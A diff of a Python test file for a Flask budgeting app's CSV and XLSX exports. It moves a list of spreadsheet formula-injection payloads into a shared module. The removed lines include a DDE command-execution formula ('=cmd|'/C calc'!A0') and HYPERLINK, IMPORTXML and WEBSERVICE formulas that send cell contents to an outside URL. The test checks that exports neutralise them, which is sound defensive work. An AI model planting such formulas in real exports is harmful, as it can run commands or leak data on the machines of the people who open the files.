@@ -9,57 +9,13 @@ import pytest
 from flask import Flask
 
 from states import CostLine, Ore
+from tests.files.payloads import DANGEROUS, FORMULAS, PAYLOADS, is_number
 from tests.files.reading import client, csv_rows, fetched, xlsx_rows
 from tests.workflow.cast import DAY, Case, budget, key, person
 from web.files import spreadsheets
 from web.files.spreadsheets import Sheet, csv_of, inert, xlsx_of
 from workflow import Engine, FundingAsk, Invoice, Registered, Rows, Text
 
-FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)"]
-PAYLOADS = [
-    *FORMULAS,
-    "=cmd|'/C calc'!A0",
-    "=HYPERLINK(\"https://example.org?\"&A1,\"klicka\")",
-    "=IMPORTXML(CONCAT(\"https://example.org?\",A1),\"//a\")",
-    "=WEBSERVICE(\"https://example.org\")",
-    "=DDE(\"soffice\",\"x\",\"y\")",
-    "@=1+1",
-    "--1",
-    "+46 550-880 00",
-    "-",
-    "=",
-    " =1+1",
-    "\u00a0=1+1",
-    "\ufeff=1+1",
-    "\u200b=1+1",
-    "\u3000=1+1",
-    "'=1+1",
-    "\"=1+1\"",
-    "\"\"=1+1",
-    "text;=1+1",
-    "text,=1+1",
-    "text\t=1+1",
-    "text\n=1+1",
-    "text\r\n=1+1;\"x\"",
-    "text\";=1+1;\"",
-    "_x003D_1+1",
-    "_x000D_=1",
-    "https://example.org",
-    "mailto:nagon@example.org",
-    "external:c:\\boot.ini",
-    "internal:Sheet1!A1",
-    "{=1+1}",
-    "<f>1+1</f>",
-    "]]><f>1</f>",
-    "1234,50",
-    "00123",
-    "1E5",
-    "2026-03-02",
-    "TRUE",
-    "#N/A",
-    "\U0001f333 park \u202e dold",
-]  # fmt: skip
-DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
 KRONOR = 1_234
 
 
@@ -86,7 +42,7 @@ def addresses(engine: Engine) -> list[str]:
     outside = [each for each in engine.pots() if each.kind == "outside" and not {"//", "\n", "\r"} & {*pairs(each.pot)}]
     pots = [f"/potter/{quote(each.pot)}/{each.year}" for each in outside]
     assert len(pots) > 35
-    return ["/potter", "/forslag", *pots, "/potter/investment/2040"]
+    return ["/potter", "/forslag", "/handelser-2026", *pots, "/potter/investment/2040"]
 
 
 def pairs(text: str) -> list[str]:
@@ -108,10 +64,6 @@ def test_forty_payloads_in_every_text_field_stay_texts(app: Flask, engine: Engin
         seen |= {cell for row in read.values for cell in row if isinstance(cell, str)}
     texts = {text.replace("\r\n", "\n").replace("\r", "\n") for text in PAYLOADS}
     assert texts <= {text.replace("\r\n", "\n").replace("\r", "\n") for text in seen}, "nothing is lost on the way"
-
-
-def is_number(cell: str) -> bool:
-    return cell.removeprefix("-").replace(",", "", 1).isdecimal()
 
 
 @pytest.mark.parametrize("payload", [*PAYLOADS, *(f" {each}" for each in FORMULAS), "a\0=1", "\0=1", "x" * 40_000])
